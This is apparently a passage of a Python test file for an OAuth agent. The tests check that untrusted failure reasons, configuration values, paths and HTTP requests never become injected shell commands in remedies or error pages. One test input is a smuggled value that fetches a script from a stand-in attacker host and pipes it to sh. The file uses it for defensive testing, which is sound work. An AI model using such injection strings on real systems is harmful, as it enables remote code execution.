    renewal = Retrying(failure, 1, NOW, NOW, NOW)
    output.errors += [
        advice.refresh_failed(work, renewal, NOW, key) for key in (MAIN, TokenKey("https://api.example/", "read:all"))
    ]
    output.errors += [advice.login_failed(work, failure, command) for command in (remedies.LOGIN, remedies.IMPORT)]
    output.errors += [advice.user_failed("work", account("users"), failure, "read:current_user", SCOPE)]
    output.errors += [
        advice.login_required("work", failure.reason),
        advice.locked("work", Locked(failure.reason, UNLOCK)),
    ]
    record = {"account": "work", "state": "ready", "renewal": "retrying", "reason": failure.reason}
    remedy = remedies_to_wire(advice.retry_remedy(work, failure))
    output.status.append({"agent": {}, "accounts": [{**record, "remedy": remedy}]})
    return output


@pytest.mark.parametrize("way", OUTPUTS)
@pytest.mark.parametrize("kind", FAILURES)
def test_no_reason_of_a_failure_becomes_a_command(kind: type[Failure], way: str) -> None:
    harmless = output_about(kind, HARMLESS)
    helps = [one for error in harmless.errors for one in error.remedy]
    for text in STRINGS.values():
        output = output_about(kind, text)
        assert [error.remedy for error in output.errors] == [error.remedy for error in harmless.errors]
        assert foreign_commands(OUTPUTS[way](output), helps, text) == []


# ---- the configuration


def output_with(key: str, text: str) -> tuple[Output, Account | None]:
    """Return the output with that text in the configuration, and the account if it is valid."""
    fields = {"issuer": ISSUER, "client_id": CLIENT, "audience": "https://api.example/", "scope": "openid", key: text}
    lines = [f"{name} = {json.dumps(value)}" for name, value in fields.items()]
    output = Output()
    try:
        loaded = configuration.parse(Path("config.toml"), "\n".join(["[accounts.work]", *lines]))
    except StartupError as error:
        output.startup.append(error)
        return output, None
    return output, loaded.accounts["work"]


def own_remedies(one: Account) -> list[Remedy]:
    """Return the remedies that contain values of the configuration."""
    wanted = remedies.account_of_its_own("work", one.issuer, one.client_id, "https://other.example/", "read:all")
    api = f"{one.issuer}api/v2/"
    return [wanted, remedies.management_account("work", None, one.issuer, one.client_id, api, SCOPE)]


@pytest.mark.parametrize("way", OUTPUTS)
@pytest.mark.parametrize("key", ["issuer", "client_id", "audience", "scope"])
def test_a_value_of_the_configuration_is_at_most_one_argument(key: str, way: str) -> None:
    for text in (*STRINGS.values(), "https://acme.example/;curl${IFS}-s${IFS}https://evil.example/x|sh"):
        output, loaded = output_with(key, text)
        if loaded is None:
            assert foreign_commands(OUTPUTS[way](output), (), text) == []
            continue
        failure = outcome.Refusal("no")
        output.errors.append(
            advice.refresh_failed(
                loaded, Retrying(failure, 1, NOW, NOW, NOW), NOW, TokenKey("https://other.example/", "read:all")
            )
        )
        output.errors.append(AgentError("no", remedy=(own_remedies(loaded)[1],)))
        helps = [remedy for error in output.errors for remedy in error.remedy]
        assert foreign_commands(OUTPUTS[way](output), helps, "") == []
        for remedy in helps:
            arguments = {word for word in remedy.command if "evil.example" in word}
            value = getattr(loaded, key)
            assert arguments <= {value, f"{value}api/v2/"}
            assert "evil.example" not in remedy.text
            assert shlex.split(remedy.line) == list(remedy.command)


@pytest.mark.parametrize("text", STRINGS.values(), ids=STRINGS)
def test_a_path_starts_no_line_or_command(text: str) -> None:
    path = f"/home/anna/{text}".replace("\0", "")
    config = configuration.parse(Path(path), f'[accounts.work]\nissuer = "{ISSUER}"\nclient_id = "{CLIENT}"')
    output = Output()
    with pytest.raises(AgentError) as caught:
        resolve_url(Arguments(Request(1, "token", {"url": "https://api.example/"})), config)
    output.errors.append(caught.value)
    output.errors.append(UntrustedAgent(f"others may enter {path}", remedy=(close_directory(path),)))
    output.errors.append(AgentError("x", remedy=(remedies.see_status_at(path), remedies.run_beside(path))))
    helps = [remedy for error in output.errors for remedy in error.remedy]
    printed = [Remedy(printable(one.text, 4096), *map(printable, one.command)) for one in helps]
    for way in (in_an_error, of_a_light_command, on_the_page):
        assert foreign_commands(way(output), [*helps, *printed], "") == []


# ---- a browser


@pytest.mark.parametrize("text", STRINGS.values(), ids=STRINGS)
@pytest.mark.parametrize(
    "request_",
    [
        "GET /{} HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /callback HTTP/1.1\r\nHost: {}\r\n\r\n",
        "{} / HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "{}",
    ],
)
def test_an_error_page_contains_nothing_of_the_request(request_: str, text: str) -> None:
    page = HTTPRequest(RedirectURI(1)).receive(request_.format(text).encode() + b"\r\n\r\n")
    assert isinstance(page, Page)
    assert not rows(text) & rows(unescape(page.body.decode()))
    assert "<code>" not in page.body.decode()


# ---- completeness

OAUTH = Path(outcome.__file__).parent
# Functions that make a string printable that no provider wrote, or can choose.
ELSEWHERE = {
    "challenge.wanted_login": "an API's words, which a client passes on, to itself alone",
    "http_client.send": "a URL, which `check_url` has accepted",
    "transport.cause": "the operating system's message",
}


def quoting_functions() -> set[str]:
    """Return the functions that quote a foreign string, as module and name."""
    names: set[str] = set()
    for path in OAUTH.glob("*.py"):
        for function in ast.walk(ast.parse(path.read_text())):
            if isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef) and any(
                isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "printable"
                for node in ast.walk(function)
            ):
                names.add(f"{path.stem}.{function.name}")
    return names


def test_every_function_that_quotes_a_provider_has_a_source() -> None:
    named = {name for source in SOURCES.values() for name in source.at if not name.startswith("urls.")}
    assert quoting_functions() - set(ELSEWHERE) == named
